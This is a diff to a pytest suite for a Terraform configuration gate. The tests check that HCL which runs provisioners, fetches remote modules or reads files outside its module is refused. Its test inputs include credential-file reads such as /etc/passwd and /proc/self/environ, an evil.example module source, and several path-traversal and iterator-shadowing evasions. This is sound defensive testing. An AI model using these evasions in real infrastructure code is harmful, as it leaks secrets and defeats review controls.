@@ -65,9 +65,9 @@ def test_the_shipped_template_passes() -> None:
         (b'data "http" "x" {\n  url = "http://x"\n}\n', 1, "runs or fetches"),
         (b'data "terraform_remote_state" "x" {}\n', 1, "runs or fetches"),
         (b'resource "null_resource" "x" {}\n', 1, "provider `hashicorp/null`"),
-        (b'resource "aws_x" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n', 2, "Declare a hook"),
-        (b'resource "terraform_data" "x" {\n  provisioner "remote-exec" {}\n}\n', 2, "Declare a hook"),
-        (b'resource "aws_x" "x" {\n  connection {}\n}\n', 2, "Declare a hook"),
+        (b'resource "aws_x" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n', 2, "declare a hook"),
+        (b'resource "terraform_data" "x" {\n  provisioner "remote-exec" {}\n}\n', 2, "declare a hook"),
+        (b'resource "aws_x" "x" {\n  connection {}\n}\n', 2, "declare a hook"),
         (b'module "x" {\n  source = "git::https://evil.example/x"\n}\n', 1, "gate.module_sources"),
         (b'module "x" {\n  source = "./../../../x"\n}\n', 1, "gate.module_sources"),
         (b'module "x" {\n  source = "terraform-aws-modules/vpc/aws"\n}\n', 1, "gate.module_sources"),
@@ -82,11 +82,11 @@ def test_the_shipped_template_passes() -> None:
         (b'provider "aws" {}\n', 1, "allowed_account_ids"),
         (b'provider "aws" {\n  allowed_account_ids = [1]\n  endpoints {\n    s3 = "x"\n  }\n}\n', 1, "`endpoints`"),
         (b'provider "aws" {\n  allowed_account_ids = [1]\n  access_key = "x"\n}\n', 1, "`access_key`"),
-        (b'locals {\n  x = file("/proc/self/environ")\n}\n', 2, "`file` may only read"),
-        (b'locals {\n  x = file("${path.module}/../../x")\n}\n', 2, "`file` may only read"),
-        (b"locals {\n  x = upper(templatefile(var.x, {}))\n}\n", 2, "`templatefile` may only read"),
-        (b'locals {\n  x = core::file("/etc/passwd")\n}\n', 2, "`core::file` may only read"),
-        (b'locals {\n  x = provider::evil::run("x")\n}\n', 2, "is a provider function"),
+        (b'locals {\n  x = file("/proc/self/environ")\n}\n', 2, "`file` may read files of its own module"),
+        (b'locals {\n  x = file("${path.module}/../../x")\n}\n', 2, "`file` may read files of its own module"),
+        (b"locals {\n  x = upper(templatefile(var.x, {}))\n}\n", 2, "`templatefile` may read files of its own module"),
+        (b'locals {\n  x = core::file("/etc/passwd")\n}\n', 2, "`core::file` may read files of its own module"),
+        (b'locals {\n  x = provider::evil::run("x")\n}\n', 2, "is a provider's function"),
         (b'ephemeral "aws_x" "x" {}\ngadget "x" {}\n', 2, "`gadget` block"),
         (b'check "x" {\n  data "http" "x" {}\n}\n', 2, "runs or fetches"),
         (b"x = = 1\n", 1, "not HCL"),
@@ -131,14 +131,18 @@ def test_the_shipped_template_passes() -> None:
             2,
             "`endpoints` in a backend block",
         ),
-        (b'locals {\n  x = file("${path.module}/" == "" ? "" : "/etc/passwd")\n}\n', 2, "`file` may only read"),
-        (b'locals {\n  x = <<EOT\n${file("/etc/passwd")}\nEOT\n}\n', 3, "`file` may only read"),
+        (
+            b'locals {\n  x = file("${path.module}/" == "" ? "" : "/etc/passwd")\n}\n',
+            2,
+            "`file` may read files of its own module",
+        ),
+        (b'locals {\n  x = <<EOT\n${file("/etc/passwd")}\nEOT\n}\n', 3, "`file` may read files of its own module"),
         (
             b'locals {\n  x = <<-EOT\n  %{ if true }${core::templatefile("/x", {})}%{ endif }\n  EOT\n}\n',
             3,
-            "`core::templatefile` may only read",
+            "`core::templatefile` may read files of its own module",
         ),
-        (b'locals {\n  x = <<EOT\n${provider::evil::run("x")}\nEOT\n}\n', 3, "is a provider function"),
+        (b'locals {\n  x = <<EOT\n${provider::evil::run("x")}\nEOT\n}\n', 3, "is a provider's function"),
         (b'data "aws_s3_object" "x" {\n  provider = evil.x\n}\n', 1, "provider `hashicorp/evil`"),
     ],
 )
@@ -248,6 +252,16 @@ def test_a_modules_own_files_may_be_read(value: str) -> None:
         'templatestring(local.t, {})',
         'templatefile("../x.tftpl", {})',
         'templatefile("${path.module}/missing.tftpl", {})',
+        '[for path in [{ module = "/etc" }] : file("${path.module}/passwd")]',
+        '[for path in [{ module = "/etc/passwd" }] : file(path.module)]',
+        '[for k, path in [{ root = "/etc" }] : [for f in ["passwd"] : file("${path.root}/${f}")]]',
+        '[for path in [{ module = "/etc" }] : fileset(path.module, "pass*")]',
+        '"%{ for path in [{ module = "/etc" }] }${file("${path.module}/passwd")}%{ endfor }"',
+        '[for d in ["."] : file("${path.module}/.${d}/.${d}/etc/passwd")]',
+        '[for d in ["."] : file("${path.module}/${d}${d}/etc/passwd")]',
+        '[for d in [""] : file("${path.module}/.${d}./etc/passwd")]',
+        '[for d in ["./etc"] : file("${path.module}/.${d}/passwd")]',
+        '[for d in ["form"] : file("${path.module}/.terra${d}/terraform.tfstate")]',
     ],
 )  # fmt: skip
 def test_no_other_file_may_be_read_however_it_is_written(value: str) -> None:
@@ -263,12 +277,67 @@ def test_files_named_by_a_bounded_for_each_may_be_read() -> None:
     assert many(main_tf=code.replace('"*.json"', '"../*.json"'))
 
 
+def test_an_iterator_that_is_called_each_hides_the_bounded_one() -> None:
+    code = """resource "aws_security_group" "x" {
+  for_each = toset(["a.txt"])
+  dynamic "ingress" {
+    for_each = ["/etc/passwd"]
+    iterator = rule
+    content {
+      description = file(each.value)
+    }
+  }
+}
+"""
+    assert many(main_tf=code) == []
+    for name in ("each", "(each)"):
+        found = many(main_tf=code.replace("iterator = rule", f"iterator = {name}"))
+        assert [each.split(": ")[0] for each in found] == ["envs/x/app/main.tf:7"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '${file("${path.module}/passwd")}',
+        "${file(path.module)}",
+        '${join("", fileset(path.module, "*"))}',
+    ],
+)
+def test_path_is_a_variable_like_others_in_a_template(text: str) -> None:
+    main = 'locals {\n  x = templatefile("${path.module}/t.tftpl", { path = { module = "/etc" } })\n}\n'
+    assert "envs/x/app/t.tftpl:1" in many(main_tf=main, t_tftpl=text)[0]
+
+
+@pytest.mark.parametrize(
+    ("collection", "is_looked_into"),
+    [
+        ('["notes.hcl"]', True),
+        ('["other.tf"]', True),
+        ('fileset(path.module, "*.hcl")', True),
+        ('fileset(path.module, "{notes,x}.hcl")', True),
+        ('fileset(path.module, "n*")', True),
+        ('fileset(path.module, "*.tftpl")', False),
+        ('["fine.tftpl"]', False),
+    ],
+)
+def test_a_file_of_code_is_looked_into_if_a_name_may_mean_it(collection: str, *, is_looked_into: bool) -> None:
+    main = f'locals {{\n  x = [for f in {collection} : templatefile("${{path.module}}/${{f}}", {{}})]\n}}\n'
+    hidden = '# ${file("/etc/passwd")}\n'
+    found = many(main_tf=main, other_tf=hidden, notes_hcl=hidden, fine_tftpl="fine")
+    assert any(":1: `file` may read files of its own module" in each for each in found) == is_looked_into, found
+    assert bool(found) == is_looked_into
+
+
 def test_what_a_template_calls_is_looked_into_with_its_own_line() -> None:
     main = 'locals {\n  x = templatefile("${path.module}/t.tftpl", { a = 1 })\n}\n'
     assert many(main_tf=main, t_tftpl="Hello ${upper(a)} $${file(1)}\n") == []
-    assert "envs/x/app/t.tftpl:2: `file` may only read" in many(main_tf=main, t_tftpl='a\n${file("/etc/hostname")}')[0]
     assert (
-        "envs/x/app/t.tftpl:1: `file` may only read" in many(main_tf=main, t_tftpl="%{ if a }${file(a)}%{ endif }")[0]
+        "envs/x/app/t.tftpl:2: `file` may read files of its own module"
+        in many(main_tf=main, t_tftpl='a\n${file("/etc/hostname")}')[0]
+    )
+    assert (
+        "envs/x/app/t.tftpl:1: `file` may read files of its own module"
+        in many(main_tf=main, t_tftpl="%{ if a }${file(a)}%{ endif }")[0]
     )
     assert "t.tftpl:1: a template can't call" in many(main_tf=main, t_tftpl='${templatefile("t.tftpl", {})}')[0]
     assert "t.tftpl:1: not HCL" in many(main_tf=main, t_tftpl="${")[0]
@@ -293,6 +362,7 @@ def test_every_template_that_a_bounded_name_may_mean_is_looked_into() -> None:
         ('terraform {\n  backend "s3" {\n    assume_role = { role_arn = "x" }\n  }\n}\n', "`assume_role` in a backend"),
         ('terraform {\n  backend "s3" {\n    dynamic "endpoints" {\n    }\n  }\n}\n', "`endpoints` in a backend"),
         ('terraform {\n  backend "local" {\n    path = "../other/terraform.tfstate"\n  }\n}\n', "local state"),
+        ('terraform {\n  backend "local" {\n    path = "notes.json"\n  }\n}\n', 'write `path = "terraform.tfstate"`'),
         ('terraform {\n  backend "local" {\n    workspace_dir = "/x"\n  }\n}\n', "`workspace_dir`"),
         ('terraform {\n  provider_meta "aws" {}\n}\n', "`provider_meta`"),
         ("terraform {\n  experiments = [x]\n}\n", "`experiments`"),
@@ -309,6 +379,7 @@ def test_every_template_that_a_bounded_name_may_mean_is_looked_into() -> None:
         ('module "x" {\n  source = "../../../modules/logs"\n}\n', "use `./…`"),
         ('import {\n  to = aws_x.y\n  id = "x"\n}\n', "a clone has nothing to import"),
         ('resource "aws_s3_object" "x" {\n  source = "/etc/passwd"\n}\n', "`source` names a file"),
+        ('resource "aws_gamelift_script" "x" {\n  zip_file = "/etc/passwd"\n}\n', "`zip_file` names a file"),
         ('resource "aws_lambda_function" "x" {\n  filename = "../../x.zip"\n}\n', "`filename` names a file"),
         ('resource "terraform_data" "x" {\n  dynamic "provisioner" {\n  }\n}\n', "`provisioner` runs programs"),
     ],
@@ -355,3 +426,19 @@ import {
         ('host = "x"', 'host = { exec = "id" }', "`exec`"),
     ):
         assert any(message in each for each in findings(fine.replace(before, after).encode(), rules=rules)), message
+
+
+@pytest.mark.parametrize(
+    ("path", "message"),
+    [
+        ("app/terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/aws", "provider programs"),
+        ("app/terraform.tfstate", "state must not be committed"),
+        ("app/terraform.tfstate.backup", "state must not be committed"),
+        ("app/terraform.tfstate.d/other/x", "state must not be committed"),
+        ("app/.versions.tf", "begin with a dot"),
+    ],
+)
+def test_a_file_that_terraform_takes_otherwise_is_refused_by_name(path: str, message: str) -> None:
+    (found,) = findings(b"", path=path)
+    assert found.startswith(f"envs/x/{path}:1: ")
+    assert message.lower() in found.lower()
